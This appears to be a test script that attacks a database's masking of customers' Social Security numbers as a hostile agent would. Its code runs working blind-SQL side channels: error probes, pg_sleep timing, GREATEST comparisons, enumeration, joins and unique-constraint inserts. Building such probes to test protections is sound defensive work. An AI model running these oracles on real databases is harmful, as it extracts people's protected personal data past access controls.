"""Test-only SSN extractor: tries to recover customer 1's full SSN through
one oracle class, the way a hostile agent would, over one psycopg
connection, and prints one JSON line:
{"class": ..., "recovered": "483-27-9150" or with "?" for digits not learned,
 "statements": n, "refused": n, "errors": {sqlstate: n}}

Usage: python3 ssn_extractor.py URL CLASS [ARG]
CLASS: error | conditional | timing | enumeration | across | join | unique
- across, unique: ARG is a JSON list of candidate SSNs tried one per
  statement, in order (a parameter each).
Every statement is bounded: at most a few hundred per class.
"""

import json
import sys
import time

import psycopg

URL, CLASS = sys.argv[1], sys.argv[2]
ARG = sys.argv[3] if len(sys.argv) > 3 else None
POSITIONS = [1, 2, 3, 5, 6, 8, 9, 10, 11]  # the digits of NNN-NN-NNNN
stats = {"statements": 0, "refused": 0, "errors": {}}
conn = psycopg.connect(URL, autocommit=True)


def run(sql, params=None):
    """(rows, sqlstate, seconds); rows is None on error."""
    global conn
    stats["statements"] += 1
    t0 = time.monotonic()
    try:
        if conn.closed or conn.broken:
            conn = psycopg.connect(URL, autocommit=True)
        cur = conn.execute(sql, params)
        rows = cur.fetchall() if cur.description else []
        return rows, None, time.monotonic() - t0
    except psycopg.Error as e:
        state = e.sqlstate or "?"
        stats["errors"][state] = stats["errors"].get(state, 0) + 1
        if state == "42501":
            stats["refused"] += 1
        return None, state, time.monotonic() - t0


def per_digit(test):
    """Each digit by asking test(position, digit) -> True/False/None."""
    out = list("???-??-????")
    for p in POSITIONS:
        for d in "0123456789":
            answer = test(p, d)
            if answer is None:
                break  # no answer: this oracle says nothing
            if answer:
                out[p - 1] = d
                break
    return "".join(out)


def error_oracle():
    def case(p, d):
        rows, state, _ = run(
            f"SELECT CASE WHEN substr(ssn, {p}, 1) = '{d}' THEN 1 / (id - id) ELSE 1 END "
            "FROM customers WHERE id = 1")
        if rows is not None:
            return False
        return True if state == "22012" else None

    def arithmetic(p, d):
        rows, state, _ = run(
            f"SELECT 1 / (ascii(substr(ssn, {p}, 1)) - ascii('{d}')) "
            "FROM customers WHERE id = 1")
        if rows is not None:
            return False
        return True if state == "22012" else None

    a = per_digit(case)
    b = per_digit(arithmetic)
    # Both forms must agree where both answered.
    return "".join(x if x == y or y == "?" else (y if x == "?" else "!")
                   for x, y in zip(a, b))


def conditional_oracle():
    """GREATEST compares the value with a guess; the (masked) result shows
    which one won by its last four characters, which the agent sees. The
    hidden digits by a search per position; the last four as shown."""
    rows, _, _ = run("SELECT ssn FROM customers WHERE id = 1")
    if not rows:
        return "???-??-????"
    last4 = rows[0][0][-4:]
    known = list("000-00-0000")
    out = list("???-??-" + last4)
    for p in [1, 2, 3, 5, 6]:
        best = "0"
        for d in "123456789":
            g = known[:]
            g[p - 1] = d
            rows, _, _ = run(
                "SELECT greatest(ssn, %s) FROM customers WHERE id = 1", ("".join(g),))
            if rows is None:
                return "".join(out)  # no answer: nothing more to learn
            if rows[0][0][-4:] != last4:
                break  # the guess won: the value is smaller
            best = d
        out[p - 1] = best
        known[p - 1] = best
    return "".join(out)


def timing_oracle():
    def case(p, d):
        rows, _, secs = run(
            f"SELECT CASE WHEN substr(ssn, {p}, 1) = '{d}' THEN pg_sleep(0.15) END "
            "FROM customers WHERE id = 1")
        if rows is None:
            return None
        return secs > 0.1

    def driven(p, d):
        rows, _, secs = run(
            f"SELECT pg_sleep(0.15 * (substr(ssn, {p}, 1) = '{d}')::int) "
            "FROM customers WHERE id = 1")
        if rows is None:
            return None
        return secs > 0.1

    a = per_digit(case)
    b = per_digit(driven)
    return "".join(x if x == y or y == "?" else (y if x == "?" else "!")
                   for x, y in zip(a, b))


def candidates_for(last4):
    """Every SSN ending in the visible last four, in order."""
    for n in range(100000):
        s = f"{n:05d}"
        yield f"{s[:3]}-{s[3:]}-{last4}"


def enumeration_oracle():
    """IN lists of 2,000 guesses sharing the visible last four, then = ANY
    over halves of the chunk that matched."""
    rows, _, _ = run("SELECT ssn FROM customers WHERE id = 1")
    if not rows:
        return "???-??-????"
    last4 = rows[0][0][-4:]
    all_ = list(candidates_for(last4))
    chunk = None
    for i in range(0, len(all_), 2000):
        part = all_[i:i + 2000]
        lits = ", ".join(f"'{c}'" for c in part)
        rows, _, _ = run(f"SELECT id FROM customers WHERE ssn IN ({lits}) AND id = 1")
        if rows is None:
            return "???-??-????"
        if rows:
            chunk = part
            break
    if chunk is None:
        return "???-??-????"
    while len(chunk) > 1:
        half = chunk[: len(chunk) // 2]
        rows, _, _ = run(
            "SELECT id FROM customers WHERE ssn = ANY(%s) AND id = 1", (half,))
        if rows is None:
            return "???-??-????"
        chunk = half if rows else chunk[len(chunk) // 2:]
    return chunk[0]


def across_oracle():
    """One guess per statement, as a lookup by a value the agent has."""
    for c in json.loads(ARG):
        rows, _, _ = run("SELECT id FROM customers WHERE ssn = %s AND id = 1", (c,))
        if rows:
            return c
    return "???-??-????"


def join_oracle():
    """The agent writes its guesses into tables of its own and joins."""
    rows, _, _ = run("SELECT ssn FROM customers WHERE id = 1")
    last4 = rows[0][0][-4:] if rows else "0000"
    found = "???-??-????"
    for table, create in [
        ("guesses_tmp", "CREATE TEMP TABLE guesses_tmp (g text)"),
        ("guesses", "CREATE TABLE IF NOT EXISTS guesses (g text)"),
    ]:
        run(create)
        run(f"INSERT INTO {table} SELECT lpad(n::text, 5, '0') FROM generate_series(48000, 48999) n")
        run(f"UPDATE {table} SET g = substr(g, 1, 3) || '-' || substr(g, 4, 2) || '-' || %s",
            (last4,))
        for sql in [
            f"SELECT g FROM {table} JOIN customers c ON c.ssn = g WHERE c.id = 1",
            f"SELECT g FROM {table} WHERE g IN (SELECT ssn FROM customers WHERE id = 1)",
            f"SELECT g FROM {table} WHERE EXISTS "
            f"(SELECT 1 FROM customers c WHERE c.id = 1 AND c.ssn = {table}.g)",
        ]:
            rows, _, _ = run(sql)
            if rows:
                found = rows[0][0]
    run("DROP TABLE IF EXISTS guesses")
    return found


def unique_oracle():
    """Writes each guess into the protected column: with a unique
    constraint on it, ON CONFLICT DO NOTHING inserts no row when the guess is
    already there (and a plain INSERT fails with 23505)."""
    global conn
    for i, c in enumerate(json.loads(ARG)):
        stats["statements"] += 1
        try:
            if conn.closed or conn.broken:
                conn = psycopg.connect(URL, autocommit=True)
            cur = conn.execute(
                "INSERT INTO customers (id, ssn) VALUES (%s, %s) ON CONFLICT DO NOTHING",
                (100000 + i, c))
            inserted = cur.rowcount
        except psycopg.Error as e:
            state = e.sqlstate or "?"
            stats["errors"][state] = stats["errors"].get(state, 0) + 1
            if state == "42501":
                stats["refused"] += 1
            continue
        if inserted == 0:
            return c
        run("DELETE FROM customers WHERE id = %s", (100000 + i,))
    # A batch from a query: one statement, every guess.
    rows, _, _ = run(
        "INSERT INTO customers (id, ssn) SELECT 200000 + n, g FROM "
        "unnest(%s::text[]) WITH ORDINALITY AS t(g, n) ON CONFLICT DO NOTHING RETURNING id",
        (json.loads(ARG),))
    return "???-??-????"


ORACLES = {
    "unique": unique_oracle,
    "error": error_oracle,
    "conditional": conditional_oracle,
    "timing": timing_oracle,
    "enumeration": enumeration_oracle,
    "across": across_oracle,
    "join": join_oracle,
}

recovered = ORACLES[CLASS]()
print(json.dumps({"class": CLASS, "recovered": recovered, **stats}), flush=True)
